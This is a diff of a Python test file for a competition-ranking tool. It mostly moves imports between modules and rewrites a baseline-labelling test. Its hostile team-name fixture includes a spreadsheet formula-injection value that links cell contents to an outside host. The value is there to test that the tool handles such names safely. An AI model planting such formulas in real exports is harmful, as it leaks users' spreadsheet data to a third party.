@@ -21,9 +21,12 @@ from test_rank_submissions import (DEV, codabench_bulk, codabench_member, compil
 
 sys.path.insert(0, str(ROOT))
 import rank_submissions  # noqa: E402
+import ranking.codabench_export  # noqa: E402
+import ranking.descriptions  # noqa: E402
 import ranking.downloads  # noqa: E402
 import ranking.names  # noqa: E402
-from ranking.downloads import MAX_MEMBER_RATIO  # noqa: E402
+import ranking.unpacking  # noqa: E402
+from ranking.unpacking import MAX_MEMBER_RATIO  # noqa: E402
 
 HOSTILE_TEAMS = {
     "480": '=HYPERLINK("http://example.com/?"&A1,"click")',
@@ -39,7 +42,7 @@ HOSTILE_TEAMS = {
 }
 
 
-@pytest.mark.parametrize("module", [ranking.names, ranking.downloads])
+@pytest.mark.parametrize("module", [ranking.names, ranking.descriptions])
 def test_docstring_examples(module):
     failures, _ = doctest.testmod(module, optionflags=doctest.NORMALIZE_WHITESPACE)
     assert failures == 0
@@ -115,7 +118,7 @@ def test_names_are_unique(hostile):
     rows = read_table(hostile / "t6_st1.csv")
     names = [row["name"] for row in rows]
     assert len(names) == len(set(names)) == len(HOSTILE_TEAMS)
-    # two participants named "x" by --teams stay apart by their owner (issue 37), and one named "x (2)"
+    # two participants named "x" by --teams stay apart by their owner, and one named "x (2)"
     assert {"x (owner484)", "x (owner485)", "x (2)"} <= set(names)
     assert len({row["team"] for row in rows}) == len(HOSTILE_TEAMS) - 1
 
@@ -166,7 +169,7 @@ def test_a_cp1252_teams_csv_is_read_with_a_warning(setup, tmp_path, capsys):  # 
 
 
 def test_a_teams_csv_partly_cp1252_shows_every_name_as_written(setup, tmp_path, capsys):  # noqa: F811
-    """Point 6 (issue 31): a file edited in two programs holds UTF-8 and Windows-1252 lines; each
+    """A file edited in two programs holds UTF-8 and Windows-1252 lines; each
     is read as written (the whole file read as cp1252 showed the UTF-8 names as 'Ã‰quipe CrÃ¨me')."""
     teams = tmp_path / "teams.csv"
     teams.write_bytes("submission,team\nrandom_1,Équipe Crème\n".encode("utf-8")
@@ -190,7 +193,7 @@ def test_a_teams_csv_with_a_bom(setup, tmp_path):  # noqa: F811
 # --- which submission is a team's row (no scoring needed) ---------------------------------------------
 
 def _scored(identifier: int, owner: str, value=None, problem: str = ""):
-    from ranking.downloads import Entry
+    from ranking.entries import Entry
     from ranking.scoring import Scored
 
     scored = Scored(Entry(str(identifier), owner, "bulk.zip", member="m%d" % identifier, platform_id=str(identifier),
@@ -273,12 +276,12 @@ def test_an_export_without_entries_is_one_line(setup, tmp_path, capsys, content)
 
 
 def test_an_oversized_csv_in_a_zip_export_is_named(tmp_path, monkeypatch):
-    monkeypatch.setattr(ranking.downloads, "MAX_EXPORT_MEMBER_BYTES", 100)
+    monkeypatch.setattr(ranking.codabench_export, "MAX_EXPORT_MEMBER_BYTES", 100)
     path = tmp_path / "results.zip"
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("Results - Test(77).csv", "Username,fact_sheet_answers\nalice_x-480,\n")
         archive.writestr("Results - Development(76).csv", "Username,fact_sheet_answers\n" + "bob-1,\n" * 50)
-    entries, warnings = ranking.downloads.read_results_export(str(path))
+    entries, warnings = ranking.codabench_export.read_results_export(str(path))
     assert [(e.owner, e.submission_id, e.phase) for e in entries] == [("alice_x", "480", "77")]
     assert len(warnings) == 1 and "Results - Development(76).csv skipped" in warnings[0]
 
@@ -311,7 +314,7 @@ def test_a_damaged_deflate_stream_is_one_line_naming_the_member(setup, tmp_path)
     work = tmp_path / "work"
     work.mkdir()
     with pytest.raises(KitError) as raised:
-        ranking.downloads.stage(entry, str(work))
+        ranking.unpacking.stage(entry, str(work))
     message = str(raised.value)
     assert message.startswith(member + ": cannot be unpacked from the download") and "\n" not in message
 
@@ -400,7 +403,7 @@ def test_a_fact_sheet_team_name_never_hides_the_owner(setup, tmp_path):  # noqa:
 
 
 def test_a_v15_team_named_like_a_user_is_its_own_participant(setup, tmp_path):  # noqa: F811
-    """Codalab v1.5 (issue 31): "Team alice  - 5 submission.zip" is the team alice's, not the user
+    """Codalab v1.5: "Team alice  - 5 submission.zip" is the team alice's, not the user
     alice's ("alice - 3 submission.zip"): both rows are ranked, each with its own method.txt."""
     submissions = setup[1]
     bulk = tmp_path / "Competition-ab12cd-12.zip"
@@ -422,7 +425,7 @@ def test_a_v15_team_named_like_a_user_is_its_own_participant(setup, tmp_path):  
 
 
 def test_files_that_differ_in_the_case_of_zip_are_told_apart(setup, tmp_path):  # noqa: F811
-    """Point 6 (issue 31): ``x.zip`` and ``x.ZIP`` are two rows, each naming its file."""
+    """``x.zip`` and ``x.ZIP`` are two rows, each naming its file."""
     import shutil
     folder = tmp_path / "subs"
     folder.mkdir()
@@ -435,17 +438,17 @@ def test_files_that_differ_in_the_case_of_zip_are_told_apart(setup, tmp_path):  
     assert sorted(row["submission"] for row in read_table(out / "t6_st1.csv")) == ["x.ZIP", "x.zip"]
 
 
-def test_the_paper_s_own_words_and_baselines_read_right():
-    """Point 12 (issue 31): the appendix captions are the tool's own words, never cut as a name is;
-    a baseline named as one is not marked twice; names break at most every 9 characters of a
-    3.1 cm column, not every 6 of 2.4 cm."""
-    from ranking import tables
-    from ranking.downloads import Entry
-    from ranking.scoring import Scored
-    for caption in tables.APPENDIX_CAPTIONS.values():
-        assert "characters)" not in ranking.names.latex_text(caption, limit=len(caption))
-    assert tables.baseline_mark("Organisers' baseline") == "" and tables.baseline_mark("Majority") == " (baseline)"
-    entry = Entry("b", "Organisers' baseline", "", baseline=True, name="Organisers' baseline")
-    assert tables.team_label(Scored(entry)) == "Organisers' baseline"
-    assert tables.NAME_COLUMN == "p{3.1cm}" and tables.BREAK_EVERY == 9
-    assert r"\allowbreak" not in tables._tex_name("Majority")
+def test_the_paper_s_own_words_and_baselines_read_right(setup, tmp_path):  # noqa: F811
+    """The appendix captions are the tool's own words, never cut as a name is; a baseline named as
+    one is not marked twice, another one is; a short name is never broken."""
+    _, submissions, _, majority, _ = setup
+    out = tmp_path / "out"
+    assert rank_submissions.main([str(submissions), "--ref", str(DEV), "--out", str(out), "--resamples", "10",
+                                  "--baseline", "Organisers' baseline=%s" % majority,
+                                  "--baseline", "Majority=%s" % majority, "--quiet"]) == 0
+    tex = (out / "results.tex").read_text(encoding="utf-8")
+    md = (out / "results.md").read_text(encoding="utf-8")
+    assert r"\label{tab:not-scored}" in tex and "characters)" not in tex  # broken.zip: its appendix, the caption whole
+    assert "Organisers' baseline" in md and "Organisers' baseline (baseline)" not in md
+    assert "Majority (baseline)" in md
+    assert "Organisers' baseline \\textit{(baseline)}" not in tex and "Majority \\textit{(baseline)}" in tex
